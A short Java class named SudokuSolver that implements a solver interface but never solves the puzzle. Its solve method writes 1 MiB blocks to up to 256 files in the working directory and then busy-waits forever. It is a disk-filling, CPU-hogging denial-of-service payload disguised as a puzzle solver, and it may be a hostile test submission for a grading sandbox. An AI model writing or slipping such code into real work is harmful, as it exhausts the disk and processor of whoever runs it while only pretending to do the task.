// Writes files until there is no more room, and goes on.

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;

public class SudokuSolver implements AbstractSudokuSolver {

    @Override
    public int[][] solve(int[][] sudoku) {
        byte[] block = new byte[1 << 20];
        for (int i = 0; i < 512; i++) {
            try {
                Files.write(Path.of("file-" + i % 256), block);
            } catch (IOException full) {
                throw new UncheckedIOException(full);
            }
            Thread.yield();
        }
        while (true) {
            Thread.onSpinWait();
        }
    }
}
